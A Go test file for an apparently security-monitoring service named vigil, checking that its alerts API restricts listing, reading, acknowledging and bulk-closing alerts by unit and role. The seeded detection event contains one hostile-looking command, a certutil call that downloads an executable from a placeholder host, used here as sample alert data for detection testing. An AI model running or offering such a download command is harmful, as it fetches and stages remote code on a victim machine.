package web_test

import (
	"context"
	"sync"
	"testing"
	"time"

	"vigil/internal/alerts"
	"vigil/internal/auth"
	"vigil/internal/detect"
)

// worldAlerts are the alerts seedAlerts made in a world: unit → alert id.
var worldAlerts sync.Map // *world → map[string]int64

// seedAlerts records an alert on units A and B (hosts the inventory does
// not know: other entries of the matrix change the world's hosts) once per
// world and returns their ids by unit.
func seedAlerts(t *testing.T, w *world) map[string]int64 {
	t.Helper()
	if m, ok := worldAlerts.Load(w); ok {
		return m.(map[string]int64)
	}
	ctx := context.Background()
	sys := auth.WithPrincipal(ctx, auth.System)
	units := map[string]int64{}
	for _, code := range []string{"A", "B"} {
		var id int64
		if err := w.db.QueryRow(ctx, `SELECT id FROM units WHERE code = ?`, code).Scan(&id); err != nil {
			t.Fatal(err)
		}
		units[code] = id
	}
	ev := &detect.Event{Host: "pc-ketoan-07", Fields: []detect.Field{{Name: "Image", Value: `C:\Windows\System32\certutil.exe`}, {Name: "CommandLine", Value: "certutil -urlcache -f http://x/a.exe"}}}
	ms := []alerts.Match{
		{RuleID: "e011a729-98a6-4139-b5c4-bf6f6dd8239a", RuleTitle: "Suspicious Certutil Command Usage", Level: "high", UnitID: units["A"], Host: "pc-ketoan-07", Time: time.Now(), Event: ev},
		{RuleID: "e011a729-98a6-4139-b5c4-bf6f6dd8239a", RuleTitle: "Suspicious Certutil Command Usage", Level: "critical", UnitID: units["B"], Addresses: []string{"10.99.2.10"}, Time: time.Now()},
	}
	if err := w.hub.Alerts.Record(ctx, ms); err != nil {
		t.Fatal(err)
	}
	out := map[string]int64{}
	list, _, err := w.hub.Alerts.List(sys, alerts.Filter{})
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range list {
		out[a.Unit] = a.ID
	}
	if out["A"] == 0 || out["B"] == 0 {
		t.Fatalf("seeded alerts %v", out)
	}
	worldAlerts.Store(w, out)
	return out
}

func init() {
	for k, v := range map[string]func(t *testing.T, w *world){
		"GET /api/v1/alerts": func(t *testing.T, w *world) {
			seedAlerts(t, w)
			got := codes(t, w.call("officerA", "GET", "/api/v1/alerts", nil), "unit")
			if !got["A"] || got["B"] {
				t.Errorf("officerA lists alerts of %v", got)
			}
			got = codes(t, w.call("analyst", "GET", "/api/v1/alerts?status=open", nil), "unit")
			if !got["A"] || !got["B"] {
				t.Errorf("analyst lists alerts of %v", got)
			}
			expect(t, w.call("officerA", "GET", "/api/v1/alerts?unit=B", nil), 404, "officerA filters on B")
			r := w.call("officerB", "GET", "/api/v1/alerts?unit=B&status=open", nil)
			items := r.items(t)
			if len(items) != 1 || items[0]["host"] != "10.99.2.10" || items[0]["severity"] != "critical" || items[0]["count"].(float64) != 1 {
				t.Errorf("officerB's alerts: %s", r.Body)
			}
			for _, k := range []string{"id", "rule_id", "rule_title", "severity", "host", "unit", "count", "first_seen", "last_seen", "status"} {
				if _, ok := items[0][k]; !ok {
					t.Errorf("alert item lacks %q: %s", k, r.Body)
				}
			}
		},
		"GET /api/v1/alerts/{id}": func(t *testing.T, w *world) {
			ids := seedAlerts(t, w)
			expect(t, w.call("officerA", "GET", "/api/v1/alerts/"+itoa(ids["B"]), nil), 404, "officerA reads B's alert")
			expect(t, w.call("viewerA", "GET", "/api/v1/alerts/"+itoa(ids["B"]), nil), 404, "viewerA reads B's alert")
			r := w.call("viewerA", "GET", "/api/v1/alerts/"+itoa(ids["A"]), nil)
			expect(t, r, 200, "viewerA reads A's alert")
			if ev, _ := r.json(t)["events"].([]any); len(ev) != 1 {
				t.Errorf("A's alert events: %s", r.Body)
			}
			expect(t, w.call("analyst", "GET", "/api/v1/alerts/"+itoa(ids["B"]), nil), 200, "the SOC reads every alert")
		},
		"PATCH /api/v1/alerts/{id}": func(t *testing.T, w *world) {
			ids := seedAlerts(t, w)
			ack := map[string]any{"action": "acknowledge"}
			expect(t, w.call("officerA", "PATCH", "/api/v1/alerts/"+itoa(ids["B"]), ack), 404, "officerA acknowledges B's alert")
			expect(t, w.call("viewerA", "PATCH", "/api/v1/alerts/"+itoa(ids["A"]), ack), 403, "viewerA acknowledges")
			expect(t, w.call("officerA", "PATCH", "/api/v1/alerts/"+itoa(ids["A"]), map[string]any{"assignee": "officerb@test.vigil"}), 400, "assign to one who cannot see A")
			expect(t, w.call("officerA", "PATCH", "/api/v1/alerts/"+itoa(ids["A"]), map[string]any{"action": "close"}), 400, "close without a reason")
			r := w.call("analyst", "PATCH", "/api/v1/alerts/"+itoa(ids["B"]), ack)
			expect(t, r, 200, "the SOC acknowledges B's alert")
			if m := r.json(t); m["status"] != "acknowledged" || m["acknowledged_by"] == "" {
				t.Errorf("acknowledged: %s", r.Body)
			}
			expect(t, w.call("officerA", "PATCH", "/api/v1/alerts/"+itoa(ids["A"]), map[string]any{"assignee": "viewera@test.vigil"}), 200, "officerA assigns")
		},
		"POST /api/v1/alerts/bulk": func(t *testing.T, w *world) {
			ids := seedAlerts(t, w)
			both := map[string]any{"ids": []int64{ids["A"], ids["B"]}, "action": "close", "reason": "expected", "note": "kiểm thử"}
			expect(t, w.call("officerA", "POST", "/api/v1/alerts/bulk", both), 404, "officerA closes B's alert in a bulk")
			if m := w.call("officerA", "GET", "/api/v1/alerts/"+itoa(ids["A"]), nil).json(t); m["status"] == "closed" {
				t.Error("the refused bulk closed A's alert")
			}
			expect(t, w.call("viewerA", "POST", "/api/v1/alerts/bulk", map[string]any{"ids": []int64{ids["A"]}, "action": "acknowledge"}), 403, "viewerA bulk")
			r := w.call("admin", "POST", "/api/v1/alerts/bulk", both)
			expect(t, r, 200, "admin closes both")
			if len(r.items(t)) != 2 {
				t.Errorf("bulk answer: %s", r.Body)
			}
			expect(t, w.call("admin", "POST", "/api/v1/alerts/bulk", map[string]any{"ids": []int64{ids["A"], ids["B"]}, "action": "reopen"}), 200, "admin reopens")
		},
	} {
		scopeMatrix[k] = v
	}
}
